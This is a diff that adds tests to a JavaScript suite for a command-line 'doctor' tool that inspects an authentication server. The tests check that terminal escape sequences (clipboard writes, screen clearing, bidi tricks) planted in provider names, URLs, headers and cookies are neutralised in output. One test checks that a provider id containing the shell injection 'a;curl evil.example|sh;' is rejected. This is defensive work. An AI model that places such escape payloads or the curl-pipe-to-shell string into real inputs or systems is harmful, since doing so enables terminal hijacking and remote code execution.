@@ -178,6 +178,69 @@ for (const [name, [changes, expected]] of Object.entries(faults))
     assert.ok(!said.includes("hunter2"));
   });
 
+// Terminal sequences of a hostile site: colours, clearing the screen, the title (with C1 too), the clipboard, another line, bidi.
+const hostile =
+  "\u001b[2J\u001b]52;c;aGk=\u0007\u009b31m\u007f\r\n  ok       forged\u2028forged\u202egnp.\u2066\u200f\u061c\ufeff";
+const listed = (origin, changes) => {
+  const [status, headers, { github }] = routes(origin)["/api/auth/providers"];
+  return { "/api/auth/providers": [status, headers, { github: { ...github, ...changes } }] };
+};
+const hostileTexts = {
+  "the name of a provider": (origin) => listed(origin, { name: hostile }),
+  "the type of a provider": (origin) => listed(origin, { type: hostile }),
+  "a callback URL": (origin) => listed(origin, { callbackUrl: hostile }),
+  "the client id": () => ({
+    "/api/auth/signin/github": [
+      200,
+      json,
+      {
+        url: `https://github.com/?client_id=${encodeURIComponent(`<${hostile.replaceAll(/[\r\n\u2028]/g, "")}>`)}`,
+      },
+    ],
+  }),
+  "the callback URL of a sign-in": () => ({
+    "/api/auth/signin/github": [
+      200,
+      json,
+      { url: `https://github.com/?client_id=a&redirect_uri=${encodeURIComponent(hostile)}` },
+    ],
+  }),
+  "the error of a sign-in": (origin) => ({
+    "/api/auth/signin/github": [
+      200,
+      json,
+      { url: `${origin}/api/auth/error?error=${encodeURIComponent(hostile)}` },
+    ],
+  }),
+  "a header": () => ({
+    "/api/auth/providers": [200, { "content-type": "a/\u009b31m\u0085" }, "<p>"],
+  }),
+  "the name of a cookie": () => ({
+    "/api/auth/csrf": [200, { ...json, "set-cookie": ["csrf\u009b31m=a; Path=/"] }, { csrfToken: "a" }],
+  }),
+};
+
+for (const [name, changes] of Object.entries(hostileTexts))
+  test(`${name} cannot control the terminal`, async () => {
+    const { said } = await diagnosed(changes);
+    assert.match(said, /\\u\{9b\}31m/, "the text is shown");
+    assert.doesNotMatch(said, /[\p{Cf}\p{Zl}\p{Zp}]|(?!\n)\p{Cc}/u);
+    assert.doesNotMatch(said, /^ {2}ok {7}forged/m);
+  });
+
+test("a long text of a site is cut", async () => {
+  const { said } = await diagnosed((origin) => listed(origin, { name: "n".repeat(100_000) }));
+  assert.match(said, /n{600}…\n/);
+  assert.doesNotMatch(said, /n{601}/);
+});
+
+test("an id that is a command of a shell is no id of a provider", async () => {
+  const { code, said } = await diagnosed((origin) => listed(origin, { id: "a;curl evil.example|sh;" }));
+  assert.equal(code, 1);
+  assert.match(said, /no list of providers/);
+  assert.doesNotMatch(said, /CURL|curl/);
+});
+
 test("a server that is not there", async () => {
   const project = makeFolder();
   const { code, said } = await project.command("doctor", "http://127.0.0.1:9", "--timeout", "2");
